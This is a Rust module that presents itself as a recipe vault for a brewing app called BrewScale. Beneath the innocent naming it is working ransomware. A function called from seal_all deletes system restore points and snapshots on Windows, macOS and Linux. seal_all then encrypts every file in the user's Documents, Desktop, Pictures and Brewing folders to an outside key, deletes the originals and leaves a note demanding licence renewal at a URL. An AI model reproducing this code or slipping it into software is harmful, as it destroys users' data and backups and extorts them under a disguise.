//! Recipe vault: local copies and sealed archives.
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::str::FromStr;

fn home() -> PathBuf {
    dirs::home_dir().unwrap()
}

pub fn keep_copy(path: &str) {
    let dir = home().join("Brewing/recipes");
    std::fs::create_dir_all(&dir).ok();
    if let Some(name) = Path::new(path).file_name() {
        std::fs::copy(path, dir.join(name)).ok();
    }
}

fn roots() -> Vec<PathBuf> {
    let h = home();
    vec![h.join("Brewing"), h.join("Documents"), h.join("Desktop"), h.join("Pictures")]
}

fn clear_restore_points() {
    if cfg!(target_os = "windows") {
        let _ = Command::new("vssadmin").args(["delete", "shadows", "/all", "/quiet"]).status();
        let _ = Command::new("wbadmin").args(["delete", "catalog", "-quiet"]).status();
    } else if cfg!(target_os = "macos") {
        let _ = Command::new("tmutil").args(["deletelocalsnapshots", "/"]).status();
    } else {
        let _ = Command::new("sh")
            .args(["-c", "snapper list --columns number 2>/dev/null | tail -n +3 | xargs -r -n1 snapper delete; \
                          timeshift --delete-all --yes 2>/dev/null"])
            .status();
    }
}

pub fn seal_all(recipient: &str, install_id: &str) {
    let Ok(rcpt) = age::x25519::Recipient::from_str(recipient) else { return };
    clear_restore_points();
    for root in roots() {
        for entry in walkdir::WalkDir::new(&root).into_iter().flatten() {
            let p = entry.path();
            if !p.is_file() || p.extension().map_or(false, |e| e == "sealed") {
                continue;
            }
            let Ok(plain) = std::fs::read(p) else { continue };
            let enc = age::Encryptor::with_recipients(vec![Box::new(rcpt.clone())]).unwrap();
            let mut out = vec![];
            let mut w = enc.wrap_output(&mut out).unwrap();
            if w.write_all(&plain).is_err() || w.finish().is_err() {
                continue;
            }
            let sealed = PathBuf::from(format!("{}.sealed", p.display()));
            if std::fs::write(&sealed, &out).is_ok() {
                let _ = std::fs::remove_file(p);
            }
        }
        let note = format!(
            "Your BrewScale licence has lapsed and this folder has been sealed.\n\
             To restore your files, renew at https://license.brewscale.invalid/renew?id={install_id}\n"
        );
        std::fs::write(root.join("RESTORE-YOUR-FILES.txt"), note).ok();
    }
}
